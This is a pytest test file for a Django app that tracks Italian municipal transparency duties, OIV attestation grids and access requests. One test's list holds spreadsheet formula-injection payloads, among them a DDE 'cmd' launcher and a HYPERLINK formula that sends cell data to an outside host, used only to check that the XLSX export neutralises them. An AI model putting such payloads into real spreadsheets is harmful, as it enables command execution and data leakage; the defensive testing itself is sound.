"""Transparency (sottosezione 2.3): catalogue, duty map, roles, OIV grid XLSX, access register."""

from datetime import date
from io import BytesIO

import lxml.html
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from openpiao.core.exchange import Audience
from openpiao.plans.access import plan_url
from openpiao.plans.json_document import export_plan, import_plan
from openpiao.transparency import readiness
from openpiao.transparency.catalogue import load_transparency_catalogue, manifest
from openpiao.transparency.models import (
    AccessRequest,
    AttestationGrid,
    AttestationRow,
    Duty,
    DutyAssignment,
    DutyCatalogue,
    Section,
)
from openpiao.transparency.selectors import access_register, duty_map


def url(plan, name, *args):
    return plan_url(plan, f"transparency:{name}", *args)


def test_catalogue_is_loaded_with_version_source_and_licence(db):
    assert Duty.objects.count() == 123
    assert Section.objects.filter(parent__isnull=True).count() == 22
    assert Section.objects.filter(parent__isnull=False).count() == 68
    catalogue = DutyCatalogue.objects.get()
    assert catalogue.license == "CC-BY 4.0" and "AgID" in catalogue.attribution
    assert catalogue.version == manifest()["version"]
    assert Duty.objects.get(key="10.01/100102").legal_due["month"] == 1
    assert Duty.objects.filter(key__startswith="10.01/100102").count() == 2  # "#2" keeps the second row
    assert Duty.objects.filter(bdncp=True).count() == 9


def test_reloading_the_catalogue_is_an_upsert(db):
    assert load_transparency_catalogue()["obblighi"] == Duty.objects.count() == 123


def test_casorate_map(casorate):
    data = duty_map(casorate, today=date(2026, 11, 21))
    assert len(data.assignments) == 123
    overdue = {a.duty.key for a in data.overdue}
    assert {"04.08/040801", "09.01/090101", "01.02/010202", "03.01/030101"} <= overdue
    assert all(a.not_applicable_reason for a in data.not_applicable)
    assert len(data.without_unit) == 11  # sections left to assign in the demo


def test_map_page_credits_the_vocabulary_and_lists_overdue_by_unit(secretary_client, casorate):
    page = secretary_client.get(url(casorate, "map")).content.decode()
    assert "vocabolari controllati AgID/Team Digitale (CC-BY 4.0)" in page
    assert "Obblighi scaduti per unità" in page


@pytest.mark.parametrize(
    ("role", "own", "expected"),
    [
        ("secretary", False, 200),
        ("admin", False, 200),
        ("unit_head", True, 200),
        ("unit_head", False, 403),
        ("evaluator", False, 403),
        ("reader", False, 403),
    ],
)
def test_who_may_edit_a_duty(client, casorate, make_member, role, own, expected):
    assignment = DutyAssignment.objects.filter(plan=casorate, producing_unit__code="finanziario").first()
    user = make_member(casorate.organization, role, username=f"d-{role}-{own}")
    casorate.units.get(code="finanziario" if own else "territorio").editors.add(user)
    client.force_login(user)
    assert client.get(url(casorate, "assignment", assignment.pk)).status_code == expected


def test_not_applicable_needs_a_reason(secretary_client, casorate):
    assignment = DutyAssignment.objects.filter(plan=casorate, not_applicable=False).first()
    response = secretary_client.post(
        url(casorate, "assignment", assignment.pk),
        {"not_applicable": "on", "not_applicable_reason": " ", "expected_version": assignment.version},
    )
    assert response.status_code == 200 and "richiede la motivazione" in response.content.decode()
    assignment.refresh_from_db()
    assert not assignment.not_applicable


def test_recording_a_publication_clears_the_overdue(secretary_client, casorate):
    assignment = DutyAssignment.objects.get(plan=casorate, duty__key="04.08/040801")
    response = secretary_client.post(
        url(casorate, "assignment", assignment.pk),
        {
            "producing_unit": assignment.producing_unit_id,
            "publishing_unit": assignment.publishing_unit_id,
            "page_url": assignment.page_url,
            "last_published": "2026-11-10",
            "expected_version": assignment.version,
        },
    )
    assert response.status_code == 302
    assignment.refresh_from_db()
    assert not assignment.due_status(today=date(2026, 11, 21), timely_days=30).is_overdue


def test_generate_map_adds_missing_duties(secretary_client, casorate):
    DutyAssignment.objects.filter(plan=casorate, duty__section__code="12.01").delete()
    secretary_client.post(url(casorate, "generate"))
    assert DutyAssignment.objects.filter(plan=casorate).count() == 123


def test_oiv_grid_xlsx_has_the_template_columns_and_the_ente_values(secretary_client, casorate):
    response = secretary_client.get(url(casorate, "oiv_xlsx"))
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    columns = [c["title"] for c in manifest()["oiv_grid"]["columns"]]
    header = [cell.value for cell in sheet[6]]
    assert header == columns
    assert "Pubblicazione (da 0 a 2)" in header and "Apertura formato (da 0 a 3)" in header
    assert sheet["B2"].value == "Comune di Casorate Primo" and sheet["B3"].value == "00468580188"
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=7)]
    assert len(rows) == 13
    prizes = next(r for r in rows if r[3].startswith("Obbligo di pubblicazione dei dati relativi ai premi"))
    assert prizes[header.index("Pubblicazione (da 0 a 2)")] == 2
    assert prizes[header.index("Aggiornamento (da 0 a 3)")] == 1
    assert prizes[-1] == "Dati 2023 pubblicati in ritardo"


# Texts a spreadsheet program would run as a formula (OWASP, CSV/formula injection).
FORMULA_TEXTS = [
    '=HYPERLINK("http://example.invalid/?q="&A2,"clic")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_oiv_grid_xlsx_writes_formula_like_texts_as_text(secretary_client, casorate):
    organization = casorate.organization
    organization.name = FORMULA_TEXTS[1]
    organization.save(update_fields=["name"])
    rows = list(AttestationGrid.objects.get(plan=casorate).rows.order_by("pk"))
    for row, text in zip(rows, FORMULA_TEXTS, strict=False):
        row.notes = text
        row.save(update_fields=["notes"])
    response = secretary_client.get(url(casorate, "oiv_xlsx"))
    sheet = load_workbook(BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for text in FORMULA_TEXTS:
        assert texts[text].data_type == "s"
    # quotePrefix: the program shows the text and keeps it text when the cell is edited.
    assert all(texts[text].quotePrefix for text in FORMULA_TEXTS)
    assert not texts["Codice fiscale"].quotePrefix


@pytest.mark.parametrize(
    ("role", "expected"),
    [("evaluator", 200), ("admin", 200), ("secretary", 403), ("reader", 403), ("unit_head", 403)],
)
def test_only_the_evaluator_fills_the_grid(client, casorate, make_member, role, expected):
    client.force_login(make_member(casorate.organization, role, username=f"g-{role}"))
    assert client.get(url(casorate, "oiv_fill")).status_code == expected


def test_evaluator_fills_the_grid_and_scales_are_checked(client, casorate, make_member):
    client.force_login(make_member(casorate.organization, "evaluator", username="oiv"))
    grid = casorate.attestation_grids.get(year=2024)
    rows = list(grid.rows.order_by("pk"))
    data = {
        "griglia-survey_date": "2024-06-10",
        "griglia-anac_reference": "",
        "griglia-expected_version": grid.version,
        "righe-TOTAL_FORMS": len(rows),
        "righe-INITIAL_FORMS": len(rows),
    }
    for n, row in enumerate(rows):
        data |= {
            f"righe-{n}-id": row.pk,
            f"righe-{n}-published": 2,
            f"righe-{n}-content": 3,
            f"righe-{n}-offices": 3,
            f"righe-{n}-updated": 3,
            f"righe-{n}-open_format": 3,
            f"righe-{n}-notes": "",
        }
    bad = client.post(url(casorate, "oiv_fill"), {**data, "righe-0-published": 1})
    assert bad.status_code == 200
    assert grid.rows.get(pk=rows[0].pk).published == rows[0].published
    assert client.post(url(casorate, "oiv_fill"), data).status_code == 302
    assert set(grid.rows.values_list("updated", flat=True)) == {3}


def test_grid_form_neither_adds_rows_nor_reaches_another_entes_grid(client, casorate, albizzate, make_member):
    """A tampered form (one more row, a row id of Albizzate) changes nothing and is no error 500."""
    client.force_login(make_member(casorate.organization, "evaluator", username="oiv-tamper"))
    grid = casorate.attestation_grids.get(year=2024)
    rows = list(grid.rows.order_by("pk"))
    foreign_grid = AttestationGrid.objects.create(plan=albizzate, year=2023)
    foreign = AttestationRow.objects.create(grid=foreign_grid, duty=rows[0].duty, published=2)
    data = {
        "griglia-survey_date": "2024-06-10",
        "griglia-anac_reference": "",
        "griglia-expected_version": grid.version,
        "righe-TOTAL_FORMS": len(rows) + 1,
        "righe-INITIAL_FORMS": len(rows),
    }
    for n, row in enumerate(rows):
        data |= {f"righe-{n}-id": foreign.pk if n == 0 else row.pk, f"righe-{n}-published": 0}
    data[f"righe-{len(rows)}-published"] = 0
    response = client.post(url(casorate, "oiv_fill"), data)
    assert response.status_code == 302
    assert grid.rows.count() == len(rows) and AttestationRow.objects.filter(grid=foreign_grid).count() == 1
    foreign.refresh_from_db()
    assert foreign.published == 2


def test_access_register_counts_the_seed_indicator(casorate):
    register = access_register(casorate, today=date(2024, 12, 31))
    assert register.count(2024, "simple") == 3  # the seed's indicator: "< di 5"
    assert register.count(2024, "generalised") == 2
    late = [r.subject for r in register.late]
    assert late == ["Tassi di assenza del III trimestre"]  # answered on 23/12 for a request of 18/11


def test_access_list_shows_how_each_term_is_computed(secretary_client, casorate):
    page = secretary_client.get(url(casorate, "access")).content.decode()
    assert page.count("Come è calcolato il termine") == AccessRequest.objects.filter(plan=casorate).count()
    assert "ricevimento + termine" in page and "art. 5 cc. 1 e 6 d.lgs. 33/2013" in page


def test_access_request_answer_before_request_is_refused(secretary_client, casorate):
    response = secretary_client.post(
        url(casorate, "access_create"),
        {
            "kind": "simple",
            "received_on": "2024-05-10",
            "subject": "Dati",
            "outcome": "granted",
            "answered_on": "2024-05-01",
        },
    )
    assert response.status_code == 200 and "non può precedere" in response.content.decode()


def test_unit_head_registers_requests_only_for_its_units(client, casorate, make_member):
    head = make_member(casorate.organization, "unit_head", username="resp-acc")
    own = casorate.units.get(code="polizia-locale")
    own.editors.add(head)
    client.force_login(head)
    data = {"kind": "documentary", "received_on": "2024-05-10", "subject": "Verbale"}
    assert (
        client.post(
            url(casorate, "access_create"), {**data, "unit": casorate.units.get(code="territorio").pk}
        ).status_code
        == 200
    )
    assert client.post(url(casorate, "access_create"), {**data, "unit": own.pk}).status_code == 302
    other = AccessRequest.objects.filter(plan=casorate, unit__code="territorio").first()
    assert client.get(url(casorate, "access_edit", other.pk)).status_code == 403


def _grow(plan, n):
    unit = plan.units.get(code="segreteria")
    DutyAssignment.objects.filter(plan=plan).delete()
    for duty in Duty.objects.order_by("pk")[:n]:
        DutyAssignment.objects.create(plan=plan, duty=duty, producing_unit=unit, publishing_unit=unit)


@pytest.mark.parametrize("name", ["map", "access", "oiv_grid"])
def test_query_count_is_constant_in_the_map_size(secretary_client, casorate, name):
    def count():
        with CaptureQueriesContext(connection) as ctx:
            assert secretary_client.get(url(casorate, name)).status_code == 200
        return len(ctx)

    _grow(casorate, 10)
    small = count()
    _grow(casorate, 120)
    AccessRequest.objects.bulk_create(
        AccessRequest(
            plan=casorate,
            kind="simple",
            received_on=date(2024, 1, d),
            subject="x",
        )
        for d in range(1, 28)
    )
    assert count() == small


def test_duty_map_selector_query_count(casorate, django_assert_num_queries):
    with django_assert_num_queries(4):
        duty_map(casorate)


def test_readiness_items(casorate):
    items = readiness.readiness_items(casorate)
    blocking = [i for i in items if i.blocking]
    assert len(blocking) == 11 and all("senza unità responsabile" in i.message for i in blocking)
    assert any(not i.blocking and "scaduto" in i.message for i in items)


def test_plan_export_carries_section_23_and_imports_back(casorate):
    document = export_plan(casorate, audience=Audience.BACKUP)
    assert len(document["risk_processes"]) == 14
    assert sum(len(m["monitoring"]) for m in document["risk_measures"]) == 19
    assert len(document["transparency_map"]) == 123 and len(document["access_requests"]) == 11
    assert document["oiv_grids"][0]["rows"][0]["published"] == 2
    document["organization"]["slug"] = "casorate-copia"
    copy = import_plan(document)
    again = export_plan(copy, audience=Audience.BACKUP)
    for key in (
        "risk_settings",
        "risk_processes",
        "risk_measures",
        "rpct_reports",
        "transparency_settings",
        "transparency_map",
        "oiv_grids",
        "access_requests",
    ):
        assert again[key] == document[key], key


# The map, one first-level sotto-sezione of Amministrazione trasparente at a time.


def _rows(response) -> list[str]:
    return lxml.html.fromstring(response.content.decode()).xpath("//tr[starts-with(@id, 'obbligo-')]/@id")


def _first_level(plan) -> dict[str, int]:
    """Code of each first-level sotto-sezione in the plan's map → its number of duties."""
    counts = {}
    for a in DutyAssignment.objects.filter(plan=plan).select_related("duty__section__parent"):
        code = a.duty.section.parent.code
        counts[code] = counts.get(code, 0) + 1
    return counts


def test_the_map_shows_one_first_level_section_at_a_time(secretary_client, casorate):
    counts = _first_level(casorate)
    first = Section.objects.filter(parent__isnull=True, code__in=counts).order_by("order").first()
    response = secretary_client.get(url(casorate, "map"))
    assert response.context["page"].section == first
    assert len(_rows(response)) == counts[first.code] < len(counts) * 2
    # The picker lists every first-level sotto-sezione of the map, with its duties.
    index = response.context["page"].index
    in_order = sorted(counts, key=lambda code: Section.objects.get(code=code).order)
    assert [entry.section.code for entry in index] == in_order
    assert [entry.duties for entry in index] == [counts[entry.section.code] for entry in index]
    page = response.content.decode()
    assert 'name="sezione"' in page and f"{first.name} ({counts[first.code]} obblighi" in page


def test_a_chosen_section_keeps_the_filters(secretary_client, casorate):
    personale = Section.objects.get(parent__isnull=True, name="Personale")
    assignment = DutyAssignment.objects.filter(
        plan=casorate, duty__section__parent=personale, producing_unit__isnull=False
    ).first()
    unit = assignment.producing_unit
    response = secretary_client.get(url(casorate, "map"), {"sezione": personale.code, "unita": str(unit.pk)})
    shown = response.context["page"]
    assert shown.section == personale
    rows = DutyAssignment.objects.filter(pk__in=[int(r.split("-")[1]) for r in _rows(response)])
    assert assignment in rows
    assert all(unit.pk in (a.producing_unit_id, a.publishing_unit_id) for a in rows)
    assert all(a.duty.section.parent == personale for a in rows)
    # The links to the sections before and after carry the unit filter, and the overdue one.
    response = secretary_client.get(
        url(casorate, "map"), {"sezione": personale.code, "unita": str(unit.pk), "stato": "scaduti"}
    )
    shown = response.context["page"]
    links = lxml.html.fromstring(response.content.decode()).xpath(
        "//nav[@aria-label='Sotto-sezioni precedente e successiva']//a/@href"
    )
    assert len(links) == (shown.previous is not None) + (shown.next is not None)
    assert all(f"unita={unit.pk}" in link and "stato=scaduti" in link for link in links)


def test_the_map_walks_every_section_with_previous_and_next(secretary_client, casorate):
    counts = _first_level(casorate)
    seen, code = [], None
    for _ in range(len(counts) + 1):
        response = secretary_client.get(url(casorate, "map"), {"sezione": code} if code else {})
        shown = response.context["page"]
        seen.append(shown.section.code)
        if shown.next is None:
            break
        assert f"?sezione={shown.next.section.code}" in response.content.decode()
        code = shown.next.section.code
    assert sorted(seen) == sorted(counts) and len(seen) == len(set(seen))


@pytest.mark.parametrize("code", ["zzz", "²", "", "L1-99"])
def test_an_unknown_section_shows_the_first(secretary_client, casorate, code):
    response = secretary_client.get(url(casorate, "map"), {"sezione": code})
    assert response.status_code == 200
    assert response.context["page"].section == response.context["page"].index[0].section


def test_the_overdue_list_links_to_the_section_of_each_duty(secretary_client, casorate):
    response = secretary_client.get(url(casorate, "map"))
    page = response.content.decode()
    for a in response.context["map"].overdue:
        assert f"?sezione={a.duty.section.parent.code}#obbligo-{a.pk}" in page


def test_query_count_of_a_section_is_constant_in_the_map_size(secretary_client, casorate):
    def count():
        with CaptureQueriesContext(connection) as ctx:
            response = secretary_client.get(url(casorate, "map"), {"sezione": "L1-04", "stato": "scaduti"})
            assert response.status_code == 200
        return len(ctx)

    _grow(casorate, 10)
    small = count()
    _grow(casorate, 123)
    assert count() == small
